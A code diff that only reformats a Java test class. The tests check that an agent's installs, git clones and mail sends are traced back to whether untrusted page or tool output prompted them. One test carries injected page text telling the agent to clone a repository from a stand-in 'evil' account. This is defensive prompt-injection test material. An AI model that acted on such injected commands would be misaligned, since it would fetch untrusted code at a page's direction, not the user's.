@@ -163,8 +163,7 @@ class ProvenanceTest {
 
   @Test
   void theAgentsOwnIdeaStaysOneWhenAnOutputRepeatsIt() {
-    driven(
-        shell("npm view left-pad", new Effect.Starts(List.of("npm", "view", "left-pad"))));
+    driven(shell("npm view left-pad", new Effect.Starts(List.of("npm", "view", "left-pad"))));
     provenance.cameIn("the output of `npm view left-pad`", "left-pad@1.3.0 | npm install left-pad");
 
     assertThat(driven(install("left-pad"))).isEmpty();
@@ -183,7 +182,8 @@ class ProvenanceTest {
   void aNameThatTheAgentWroteIntoAFileFirstIsItsOwnIdea() {
     driven(
         new Step(
-            new Action.WriteFile(PROJECT.resolve("package.json"), "{\"dependencies\":{\"left-pad\":\"1\"}}"),
+            new Action.WriteFile(
+                PROJECT.resolve("package.json"), "{\"dependencies\":{\"left-pad\":\"1\"}}"),
             List.of()));
     provenance.cameIn("the output of `npm outdated`", "left-pad 1.0.0 1.3.0");
 
@@ -209,7 +209,8 @@ class ProvenanceTest {
 
   @Test
   void aPlainWordInProseNamesNoPackage() {
-    provenance.cameIn(PAGE, "We express our thanks. A request was made; chalk it up to debug luck.");
+    provenance.cameIn(
+        PAGE, "We express our thanks. A request was made; chalk it up to debug luck.");
 
     assertThat(driven(install("express"))).isEmpty();
     assertThat(driven(install("request"))).isEmpty();
@@ -300,7 +301,8 @@ class ProvenanceTest {
   @Test
   void aRepositoryOfAPageIsDrivenAndTheUsersIsNot() {
     provenance.said("Clone you/tools and look at it");
-    provenance.cameIn(PAGE, "git clone https://github.com/evil/tools and https://github.com/you/tools");
+    provenance.cameIn(
+        PAGE, "git clone https://github.com/evil/tools and https://github.com/you/tools");
 
     assertThat(driven(gitClone("https://github.com/you/tools.git"))).isEmpty();
     assertThat(driven(gitClone("git@github.com:evil/tools.git")).map(Driven::sink))
@@ -334,7 +336,8 @@ class ProvenanceTest {
 
   private static Step mail(String to) {
     return new Step(
-        new Action.McpCall("mail", "send", "{\"to\": [\"" + to + "\"], \"body\": \"done\"}"), List.of());
+        new Action.McpCall("mail", "send", "{\"to\": [\"" + to + "\"], \"body\": \"done\"}"),
+        List.of());
   }
 
   @Test
